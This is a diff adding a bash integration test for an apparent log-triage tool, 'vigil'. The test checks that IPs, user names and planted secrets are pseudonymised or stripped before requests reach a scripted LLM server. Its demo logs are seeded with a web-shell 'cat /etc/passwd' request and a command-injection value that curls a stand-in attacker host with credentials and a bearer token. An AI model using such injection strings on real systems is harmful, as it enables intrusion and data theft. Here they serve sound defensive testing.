@@ -1,0 +1,152 @@
+#!/bin/bash
+# What leaves vigil under each privacy policy.  The scripted server
+# records every request; under the default policy (pseudonymise) no IP
+# address, user name, host name, e-mail address or secret from the
+# incident's evidence may appear in any of them, and the answer must come
+# back with the real values.  Secrets are planted in the demo logs.
+. "$(dirname "$0")/lib.sh"
+command -v python3 >/dev/null || skip "python3 is not installed"
+[ -x "${VIGIL_DEMO_GEN:-}" ] || skip "vigil-demo-gen not built"
+SERVER="$SRCDIR/tests/integration/llm_server.py"
+SRV=""
+stop_server() {
+	if [ -n "$SRV" ]; then
+		kill "$SRV" 2>/dev/null
+		wait "$SRV" 2>/dev/null
+	fi
+	SRV=""
+}
+trap 'stop_server; rm -rf "$T"' EXIT
+
+start_server() {	# start_server MODE [server args]
+	local mode=$1
+	shift
+	stop_server
+	rm -f "$T/port" "$T/req.log"
+	touch "$T/req.log"
+	python3 "$SERVER" --mode "$mode" --port-file "$T/port" \
+		--log "$T/req.log" "$@" &
+	SRV=$!
+	for _ in $(seq 200); do
+		[ -s "$T/port" ] && break
+		sleep 0.05
+	done
+	PORT=$(cat "$T/port")
+	cat >"$T/vigil.yaml" <<CFG
+base_url: http://127.0.0.1:$PORT/v1
+model: scripted
+key_env: VIGIL_TEST_KEY
+timeout_ms: ${TIMEOUT_MS:-5000}
+retries: ${RETRIES:-2}
+backoff_ms: 50
+max_backoff_ms: 3000
+step_limit: 4
+CFG
+}
+
+requests() { wc -l <"$T/req.log"; }
+
+"$VIGIL_DEMO_GEN" "$T/demo" >/dev/null 2>&1
+# Secrets and an e-mail address inside lines that become evidence.
+sed -i -e 's#/uploads/img.php?cmd=cat%20/etc/passwd#&\&token=tok5ecret9f8e7d\&mail=victim@corp.example.com#' \
+	-e 's#/api/v1/ping?host=127.0.0.1%3Bcat%20/etc/passwd#/api/v1/ping?host=127.0.0.1%3Bcurl%20http://admin:hunter2pass@files.attacker.example.net/x%20-H%20Authorization:%20Bearer%20eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl#' \
+	"$T/demo/access.log"
+sed -i 's#COMMAND=/usr/bin/su -#COMMAND=/usr/bin/mysql --password=Sup3rS3cretPw -u root#' \
+	"$T/demo/auth.log"
+"$VIGIL" analyze -q --store "$T/db" "$T"/demo/*.log "$T"/demo/*.json \
+	>/dev/null 2>&1 || fail "analyze --store"
+"$VIGIL" show 1 --store "$T/db" --format json >"$T/inc.json" 2>/dev/null
+
+# Every value the evidence holds that must not leave: addresses, names,
+# e-mail addresses and the planted secrets.
+python3 - "$T/inc.json" >"$T/private.txt" <<'PY'
+import json, re, sys
+d = json.load(open(sys.argv[1]))
+vals = set()
+for e in d["entities"]:
+    if e["type"] in ("source.ip", "user.name", "user.target.name",
+                     "host.name"):
+        vals.add(e["value"])
+for ev in d["evidence"]:
+    t = ev["text"]
+    vals.update(re.findall(r"\b\d{1,3}(?:\.\d{1,3}){3}\b", t))
+    vals.update(re.findall(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+", t))
+    m = re.match(r"\w{3} [ \d]\d \d\d:\d\d:\d\d (\S+) ", t)
+    if m:
+        vals.add(m.group(1))
+vals.update(["tok5ecret9f8e7d", "hunter2pass", "Sup3rS3cretPw",
+             "eyJhbGciOiJIUzI1NiJ9", "victim@corp.example.com",
+             "files.attacker.example.net"])
+for v in sorted(vals):
+    print(v)
+PY
+check "the evidence holds private values" test "$(wc -l <"$T/private.txt")" -ge 10
+check "the planted secret is in the evidence" grep -q tok5ecret "$T/inc.json"
+
+leaks() {	# leaks: values of private.txt found in any request
+	python3 - "$T/req.log" "$T/private.txt" <<'PY'
+import json, re, sys
+reqs = [json.dumps(json.loads(l)["body"]) for l in open(sys.argv[1])]
+bad = 0
+for v in open(sys.argv[2]).read().split("\n"):
+    if not v:
+        continue
+    pat = re.compile(r"(?<![\w.-])" + re.escape(v) + r"(?![\w-]|\.\d)")
+    for r in reqs:
+        if pat.search(r):
+            print("leaked:", v)
+            bad += 1
+            break
+sys.exit(1 if bad else 0)
+PY
+}
+
+start_server good
+VIGIL_TEST_KEY=k "$VIGIL" triage --all --store "$T/db" \
+	--config "$T/vigil.yaml" --format json >"$T/out.json" 2>"$T/err"
+check "pseudonymise: requests were made" test "$(requests)" -ge 6
+check "pseudonymise: nothing private left vigil" leaks
+check "pseudonymise: tokens went out" grep -q 'IP-PUB-' "$T/req.log"
+check "pseudonymise: the answer names real addresses" \
+	grep -q '203\.0\.113\.4[57]' "$T/out.json"
+check "pseudonymise: no token left in the answer" \
+	bash -c "! grep -q 'IP-PUB-[0-9]' '$T/out.json'"
+check "pseudonymise: the map key is private" \
+	test "$(stat -c %a "$T/db.key")" = 600
+# The sealed map keeps tokens stable from run to run.
+grep -o 'IP-PUB-[0-9]*' "$T/req.log" | sort -u >"$T/tok1"
+: >"$T/req.log"
+VIGIL_TEST_KEY=k "$VIGIL" triage 1 --store "$T/db" --config "$T/vigil.yaml" \
+	>/dev/null 2>&1
+grep -o 'IP-PUB-[0-9]*' "$T/req.log" | sort -u >"$T/tok2"
+check "pseudonymise: same tokens in a later run" \
+	bash -c "comm -13 '$T/tok1' '$T/tok2' | grep -q . && exit 1 || exit 0"
+"$VIGIL" show 1 --store "$T/db" --format json >"$T/inc2.json" 2>/dev/null
+check "pseudonymise: stored trace is pseudonymised" python3 -c '
+import json,sys
+d=json.load(open(sys.argv[1]))
+tr=[t for t in d["traces"] if t["producer"]=="llm"]
+p=tr[-1]["prompt"]
+sys.exit(0 if tr and "IP-PUB-" in p and "203.0.113.45" not in p and
+         "tok5ecret" not in p else 1)' "$T/inc2.json"
+
+# privacy: off sends raw values (so the leak check above can fail) but
+# still no secrets.
+echo "privacy: off" >>"$T/vigil.yaml"
+: >"$T/req.log"
+VIGIL_TEST_KEY=k "$VIGIL" triage 1 --store "$T/db" --config "$T/vigil.yaml" \
+	>/dev/null 2>&1
+check "off: raw addresses go out" grep -q '203\.0\.113\.4' "$T/req.log"
+leaks_seen() { ! leaks >/dev/null; }
+check "off: the leak check sees them" leaks_seen
+check "off: secrets still removed" \
+	bash -c "! grep -Eq 'tok5ecret|hunter2pass|Sup3rS3cret|eyJhbGciOiJIUzI1NiJ9' '$T/req.log'"
+
+# privacy: none asks nothing.
+sed -i 's/^privacy: off$/privacy: none/' "$T/vigil.yaml"
+: >"$T/req.log"
+"$VIGIL" triage 1 --store "$T/db" --config "$T/vigil.yaml" >"$T/none.txt" 2>&1
+check "none: no request" test "$(requests)" = 0
+check "none: deterministic, said so" grep -q 'privacy-none' "$T/none.txt"
+stop_server
+finish
